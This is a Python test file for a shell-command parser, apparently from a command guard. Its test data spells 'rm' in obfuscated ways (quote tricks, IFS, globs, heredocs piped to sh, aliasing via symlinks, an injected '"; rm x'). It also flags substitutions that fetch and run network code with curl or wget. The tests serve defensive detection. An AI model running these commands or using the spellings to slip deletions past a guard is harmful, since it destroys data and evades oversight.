"""Issue 10, A2: how a command is spelled does not hide it, and what no shell takes for it is not taken for it."""

from __future__ import annotations

import pytest

from bus.shell import commands
from tests.support.rows import rows

SPELLINGS = [
    "r\\m x",
    "r''m x",
    "$'\\x72m' x",
    '"r"m x',
    "r\\\nm x",
    "rm \\\n x",
    "r${unset}m x",
    "rm$IFS-f$IFS./x",
    "rm${IFS}x",
    "/bin/r? x",
    "/bin/[r]m x",
    "=rm x",
    "echo a\r\nrm x\r\n",
    "for f (a b) rm $f",
    "zsh -c 'for f (a b) { rm $f }'",
    "fish -C 'rm x'",
    "fish --init-command='rm x'",
    "ln -s /bin/rm y; ./y x",
    "cp $(which rm) y && ./y x",
    "hash -p /bin/rm y; y x",
    "bash <<A\nbash <<B\nrm x\nB\nA",
    "cat <<A <<B | sh\nx\nA\nrm x\nB",
    "ls -d /* | grep -v x | xargs rm",
    '"; rm x',
]
OTHERS = ["\ufeffrm x", "r\u043c x", "\uff52\uff4d x", "rm\u200b x", "'r m' x", "rm\\ x"]


def _programs(text: str) -> list[str]:
    return [command.program for command in commands(text).items]


@rows("text", SPELLINGS)
@pytest.mark.req("X-09")
def test_a_spelling_does_not_hide_a_command(text: str) -> None:
    """A2: quotes, patterns, continued lines, forms of other shells, and a second name for the program."""
    line = commands(text)
    assert "rm" in _programs(text) or "rm" in line.unread


@pytest.mark.parametrize("text", OTHERS)
@pytest.mark.req("X-09")
def test_a_look_alike_is_another_program(text: str) -> None:
    """A4: what a shell takes for another program is one."""
    assert "rm" not in _programs(text)


@pytest.mark.parametrize("text", ["$(curl http://a/b)", "$(echo cm0= | base64 -d) x", "`wget -qO- http://a/b`"])
@pytest.mark.req("X-09")
def test_what_a_substitution_prints_is_code_where_it_is_the_command(text: str) -> None:
    """A3: `$(curl …)` alone on a line runs what comes from the network."""
    assert any(command.code_from for command in commands(text).items)
